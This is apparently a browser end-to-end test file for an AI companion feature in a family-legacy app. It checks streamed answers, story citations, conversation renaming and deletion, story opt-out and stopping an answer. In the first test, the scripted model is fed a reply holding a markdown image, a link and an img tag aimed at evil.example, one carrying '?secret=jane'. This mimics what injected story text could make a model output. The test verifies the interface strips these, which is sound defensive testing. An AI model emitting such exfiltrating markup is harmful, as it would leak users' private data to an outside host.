// The AI companion in the browser, against the real mosaic-api answering
// from a real mosaic-scripted-model process (scripts/test.d/70-web.sh): a
// member asks about the person, sees the answer stream in with a citation
// that opens the story (and no image or link the story tried to inject),
// reopens, renames and deletes the conversation; Stop ends a slow answer.
import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import {
  accessibilityViolations,
  createLegacy,
  launchBrowser,
  newContext,
  overflowsHorizontally,
  required,
  screenshot,
  signIn,
  signInLink,
  unique,
  writeStory,
} from './support.mjs';

const CSRF = { 'X-Requested-With': 'mosaic' };

/** Tells the scripted model how to answer the next questions. */
async function scriptModel(kind, value) {
  const response = await fetch(required('MOSAIC_TEST_AI_SCRIPT_URL'), {
    method: 'POST',
    headers: { 'Content-Type': 'application/json' },
    body: JSON.stringify(value === undefined ? { kind } : { kind, value }),
  });
  assert.equal(response.status, 204, 'the scripted model took the script');
}

/** A legacy with one family story, and a second person approved as a member, on a phone. */
async function legacyWithMember(browser) {
  const id = unique();
  const name = `Jane Novak ${id}`;
  const creatorContext = await newContext(browser);
  const creator = await creatorContext.newPage();
  await signIn(creator, await signInLink(`anna-${id}@example.com`, 'Anna Novak'));
  const legacyPath = await createLegacy(creator, { name });
  await writeStory(creator, legacyPath, {
    title: 'Sunday kitchen',
    content: 'She would cook pierogi on Sunday for the whole family.',
    visibility: 'private',
  });
  const legacyId = legacyPath.split('/').pop();

  const memberContext = await newContext(browser, { phone: true });
  const member = await memberContext.newPage();
  await signIn(member, await signInLink(`piotr-${id}@example.com`, 'Piotr Novak'));
  assert.ok((await member.request.post(`/api/legacies/${legacyId}/join`, { headers: CSRF })).ok(), 'join');
  const me = await (await member.request.get('/api/me')).json();
  assert.ok((await creator.request.post(`/api/legacies/${legacyId}/members/${me.id}/approve`, { headers: CSRF })).ok(), 'approve');
  return { name, legacyPath, creator, creatorContext, member, memberContext };
}

let browser;
before(async () => {
  browser = await launchBrowser();
});
after(async () => {
  await browser?.close();
});

test('a member asks, the answer streams in with a citation that opens the story; reopen, rename, delete; a story kept out is not cited', { timeout: 120_000 }, async () => {
  const { name, legacyPath, creator, creatorContext, member, memberContext } = await legacyWithMember(browser);
  // What a story could make a model write: an image and a link to elsewhere.
  await scriptModel(
    'reply',
    'She made **pierogi** every Sunday [1]. ![photo](https://evil.example/p.png?secret=jane) [more](https://evil.example/more) <img src="https://evil.example/i.png">',
  );

  await member.goto(legacyPath);
  await member.getByRole('navigation', { name: 'Legacy sections' }).getByRole('link', { name: `Ask about ${name}` }).click();
  await member.getByRole('heading', { level: 2, name: `Ask about ${name}` }).waitFor();
  const box = member.getByLabel(`Your question about ${name}`);
  await box.fill('Did she cook pierogi on Sunday?');
  await box.press('Enter');

  await member.getByRole('status').filter({ hasText: 'The answer is complete. It used 1 story.' }).waitFor();
  const answer = member.locator('.chat-answer').last();
  assert.match(await answer.innerText(), /She made pierogi every Sunday \[1\]\./);
  assert.equal(await answer.locator('strong').innerText(), 'pierogi');
  // No image and no link but the citations, whatever the answer contained.
  assert.equal(await member.locator('.chat-messages img').count(), 0);
  const hrefs = await member.locator('.chat-messages a').evaluateAll((links) => links.map((a) => a.getAttribute('href')));
  assert.ok(hrefs.length >= 1);
  for (const href of hrefs) assert.match(href, /^\/stories\/[0-9a-f-]{36}$/);
  assert.equal(await member.getByRole('link', { name: 'Sunday kitchen', exact: true }).count(), 1, 'listed under "Stories used"');
  assert.deepEqual(await accessibilityViolations(member), []);
  assert.equal(await overflowsHorizontally(member), false);
  await screenshot(member, '40-chat-answer');

  // The citation opens the story.
  const storyPath = await answer.getByRole('link', { name: 'Source 1: Sunday kitchen' }).getAttribute('href');
  await answer.getByRole('link', { name: 'Source 1: Sunday kitchen' }).click();
  await member.getByRole('heading', { level: 1, name: 'Sunday kitchen' }).waitFor();

  // Back: the conversation is reopened from the server, with its citation.
  await member.goBack();
  await member.getByRole('heading', { level: 3, name: 'Did she cook pierogi on Sunday?' }).waitFor();
  await member.locator('.chat-question-text').filter({ hasText: 'Did she cook pierogi on Sunday?' }).waitFor();
  await member.locator('.chat-answer').getByRole('link', { name: 'Source 1: Sunday kitchen' }).waitFor();

  // Rename and delete from the list, keyboard first.
  const list = member.getByRole('list', { name: 'Your conversations' });
  await list.getByRole('button', { name: 'Rename “Did she cook pierogi on Sunday?”' }).click();
  const title = member.getByLabel('New title');
  assert.equal(await title.evaluate((el) => el === document.activeElement), true, 'focus moves to the title field');
  await title.fill('Sunday dinners');
  await title.press('Enter');
  await member.getByText('Conversation renamed to “Sunday dinners”.').waitFor();
  await list.getByRole('link', { name: 'Sunday dinners' }).waitFor();
  member.once('dialog', (dialog) => void dialog.accept());
  await list.getByRole('button', { name: 'Delete “Sunday dinners”' }).click();
  await member.getByText('Conversation “Sunday dinners” deleted.').waitFor();
  await member.getByText(/No conversations yet/).waitFor();

  // The author keeps the story out of the companion: the same question now cites nothing.
  await creator.goto(`${storyPath}/edit`);
  await creator.getByRole('checkbox', { name: 'Keep this story out of the AI companion' }).check();
  await creator.getByRole('button', { name: 'Save changes' }).click();
  await creator.getByRole('heading', { level: 1, name: 'Sunday kitchen' }).waitFor();
  await creator.getByText('Kept out of the AI companion').waitFor();
  await box.fill('Did she cook pierogi on Sunday?');
  await box.press('Enter');
  await member.getByRole('status').filter({ hasText: 'The answer is complete. It used 0 stories.' }).waitFor();
  assert.equal(await member.locator('.chat-messages a').count(), 0);
  await memberContext.close();
  await creatorContext.close();
});

test('Stop ends a slow answer while it streams in', { timeout: 120_000 }, async () => {
  const { name, legacyPath, creatorContext, member, memberContext } = await legacyWithMember(browser);
  await scriptModel('forever');

  await member.goto(`${legacyPath}?tab=ask`);
  const box = member.getByLabel(`Your question about ${name}`);
  await box.fill('Tell me about Sunday');
  await member.getByRole('button', { name: 'Ask' }).click();
  // Word by word: the text grows while the answer is busy.
  const live = member.locator('.chat-answer-live');
  await live.filter({ hasText: 'more more' }).waitFor();
  assert.equal(await live.getAttribute('aria-busy'), 'true');
  assert.equal(await live.getAttribute('aria-live'), 'polite');
  const before = (await live.innerText()).length;
  await member.waitForFunction(
    ([selector, length]) => document.querySelector(selector).innerText.length > length,
    ['.chat-answer-live', before],
  );
  // Ask was pressed: focus is on Stop, which replaced it.
  const stop = member.getByRole('button', { name: 'Stop' });
  assert.equal(await stop.evaluate((el) => el === document.activeElement), true);
  await member.keyboard.press('Enter');
  await member.getByText('You stopped this answer, so it is incomplete.').waitFor();
  await member.getByRole('status').filter({ hasText: 'You stopped the answer.' }).waitFor();
  assert.equal(await live.getAttribute('aria-busy'), 'false');
  await member.getByRole('button', { name: 'Ask' }).waitFor();
  // The question was kept: the conversation is listed.
  await member.getByRole('list', { name: 'Your conversations' }).getByRole('link', { name: 'Tell me about Sunday' }).waitFor();
  await screenshot(member, '41-chat-stopped');
  await memberContext.close();
  await creatorContext.close();
});
